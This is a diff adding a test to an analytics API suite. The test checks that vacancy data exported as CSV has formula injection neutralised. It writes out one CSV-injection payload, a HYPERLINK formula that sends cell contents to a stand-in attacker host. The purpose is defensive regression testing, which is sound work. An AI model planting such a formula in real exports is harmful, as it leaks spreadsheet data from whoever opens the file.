@@ -131,6 +131,23 @@ describe('GET /v1/analytics/skills', () => {
     }
   });
 
+  it('neutralises formulas from vacancies in CSV exports (OWASP CSV injection)', async () => {
+    const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+    const put = await call(admin, 'PUT', '/v1/vacancies/CSV-ATTACK', {
+      title: 'Varastotyöntekijä',
+      description: 'Keräilyä ja pakkaamista.',
+      skills: [attack],
+      occupation: attack,
+      municipality: 'Kauniainen',
+    });
+    expect(put.status).toBeLessThan(300);
+    const csv = (await call(planner, 'GET', '/v1/analytics/occupations?municipality=Kauniainen&format=csv&limit=20000')).body as string;
+    const cells = csv.split('\r\n').flatMap((line) => line.split(','));
+    expect(csv).toContain("'=HYPERLINK");
+    expect(cells.some((c) => /^"?[=+@-]/.test(c) && !/^-?\d/.test(c))).toBe(false);
+    await call(admin, 'DELETE', '/v1/vacancies/CSV-ATTACK');
+  });
+
   it('exports the same table as CSV', async () => {
     const json = (await call(planner, 'GET', '/v1/analytics/skills?area=helsinki&lang=sv&limit=50')).body.items;
     const response = await call(planner, 'GET', '/v1/analytics/skills?area=helsinki&lang=sv&limit=50&format=csv');
